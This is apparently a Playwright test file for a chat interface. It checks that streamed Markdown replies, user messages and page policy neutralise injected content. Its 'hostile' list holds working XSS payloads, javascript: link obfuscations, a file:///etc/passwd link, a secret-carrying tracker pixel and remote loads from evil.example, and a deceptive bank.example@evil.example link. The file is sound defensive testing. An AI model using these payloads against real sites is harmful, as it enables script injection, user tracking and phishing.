import type { Page } from "playwright";
import { expect } from "./journey/expect.ts";
import { sayHeld } from "./journey/held-reply.ts";
import { defineJourneys } from "./journey/journey.ts";
import { enter, expectEnd, messages, replies, say, sidebar, wordsOf } from "./journey/screen.ts";
import { expectScreenEqualsStored } from "./journey/stored.ts";

const attack = "<img src=x onerror=globalThis.harmed=1>";
const journey = defineJourneys(import.meta.path, {
  titleScenario: `title text="${attack}"`,
});

/** Texts of links that may not become links. */
const deceptive = [
  "click",
  "tab",
  "data",
  "vb",
  "blob",
  "file",
  "other",
  "by reference",
  "raw",
  "bank",
];

/** Each of these would make a request, run code or mislead, if it were let through. */
const hostile = [
  "[click](javascript:globalThis.harmed=1) [click](JaVa&#x53;cript:globalThis.harmed=1)",
  "[tab](java\tscript:globalThis.harmed=1) <javascript:globalThis.harmed=1> [data](data:text/html,<script>globalThis.harmed=1</script>)",
  "[vb](vbscript:x) [blob](blob:https://evil.example/1) [file](file:///etc/passwd) [other](//evil.example/path)",
  "[by reference][bad] ![picture][picture]",
  "",
  "[bad]: javascript:globalThis.harmed=1",
  "[picture]: https://evil.example/reference.png",
  "",
  "![tracker](https://evil.example/pixel.png?secret) ![](http://evil.example/a.svg) ![x](//evil.example/b.png)",
  "<script>globalThis.harmed=1</script>",
  "<img src=https://evil.example/c.png onerror=globalThis.harmed=1>",
  "<iframe src=https://evil.example/></iframe><object data=https://evil.example/></object>",
  "<style>@import url(https://evil.example/d.css); body { display: none }</style>",
  "<link rel=stylesheet href=https://evil.example/e.css><meta http-equiv=refresh content='0;url=https://evil.example/'>",
  '<a href="javascript:globalThis.harmed=1" onclick="globalThis.harmed=1">raw</a><form action=https://evil.example/><button>go</button></form>',
  "<svg onload=globalThis.harmed=1><use href=https://evil.example/f.svg#x></use></svg>",
  "",
  "$\\href{javascript:globalThis.harmed=1}{x}$ $\\includegraphics{https://evil.example/g.png}$ $\\htmlClass{x}{y}$ $\\url{javascript:globalThis.harmed=1}$",
  "",
  "```html",
  "<script>globalThis.harmed=1</script><img src=https://evil.example/h.png>",
  "```",
  "",
  "[bank](https://bank.example@evil.example/) [good](https://example.org/) [mine](/t/cthr_x)",
].join("\n");

/** Elements that a reply must never contain. */
const forbidden = "script, img, iframe, object, embed, style, link, meta, form, use";

/** Checks that the reply contains nothing that loads or runs, and no link that misleads. */
async function expectInert(page: Page): Promise<void> {
  const reply = wordsOf(replies(page).last());
  await expect(reply.locator(forbidden)).toHaveCount(0);
  const found = await reply.evaluate((root) => ({
    handlers: Array.from(root.querySelectorAll("*"))
      .filter((element) => element.getAttributeNames().some((name) => name.startsWith("on")))
      .map((element) => element.outerHTML),
    links: Array.from(root.querySelectorAll("a")).map(({ href, rel, target, textContent }) => ({
      words: textContent,
      leadsAway: href.startsWith("https://") || href.startsWith("http://evil.example/"),
      guarded: rel === "noopener noreferrer" && target === "_blank",
      isOwn: href.startsWith(`${location.origin}/t/`),
    })),
  }));
  expect(found.handlers).toEqual([]);
  expect(found.links.length).toBeGreaterThan(1);
  for (const { words, leadsAway, guarded, isOwn } of found.links) {
    expect(leadsAway ? guarded : isOwn, `link "${words}"`).toBe(true);
    expect(deceptive).not.toContain(words);
  }
  expect(await page.evaluate(() => "harmed" in globalThis)).toBe(false);
}

journey(
  "hostile Markdown is inert while it streams, when it is whole, and after a reload",
  async ({ page, mock, sql }) => {
    await enter(page);
    const reply = await sayHeld(page, mock, attack);
    for (let at = 0; at < hostile.length; at += 7) {
      reply.push(hostile.slice(at, at + 7));
      // A frame is painted every 70 characters, so that half-written text is rendered too.
      if (at % 70 === 0) await page.evaluate(() => new Promise(requestAnimationFrame));
    }
    reply.push("\n\nStill here.");
    await expect(wordsOf(replies(page))).toContainText("Still here.");
    reply.release();
    await expectEnd(page, "completed");
    await expectInert(page);
    await replies(page).getByText("click").first().click();
    await expectInert(page);
    await expect(sidebar(page).getByRole("link")).toContainText(attack);
    await expect(page).toHaveTitle(attack);
    await expectScreenEqualsStored(page, sql);

    await page.reload();
    await expectEnd(page, "completed");
    await expect(wordsOf(replies(page))).toContainText("Still here.");
    await expectInert(page);
    await expectScreenEqualsStored(page, sql);
  },
);

journey("what a person writes is shown as written, never as Markdown", async ({ page, sql }) => {
  await enter(page);
  const words = `${attack} **not bold** [x](javascript:globalThis.harmed=1) <b>raw</b>`;
  await say(page, words);
  await expectEnd(page, "completed");
  expect(await wordsOf(messages(page).first()).textContent()).toBe(words);
  await expect(messages(page).first().locator("b, strong, a, img")).toHaveCount(0);
  expect(await page.evaluate(() => "harmed" in globalThis)).toBe(false);
  await expectScreenEqualsStored(page, sql);
});

journey(
  "every page comes with a policy that forbids other origins and inline scripts",
  async ({ page }) => {
    const answer = await page.goto("/");
    const policy = answer?.headers()["content-security-policy"] ?? "";
    expect(policy).toContain("default-src 'self'");
    expect(policy).not.toMatch(/script-src[^;]*'unsafe|https?:/);
    const refused = await page.evaluate(async () => {
      const violation = new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) =>
          resolve(event.effectiveDirective),
        );
      });
      const script = document.createElement("script");
      script.textContent = "globalThis.harmed = 1";
      document.body.append(script);
      return violation;
    });
    expect(refused).toMatch(/^script-src/);
    expect(await page.evaluate(() => "harmed" in globalThis)).toBe(false);
  },
  { provokes: /^policy: / },
);
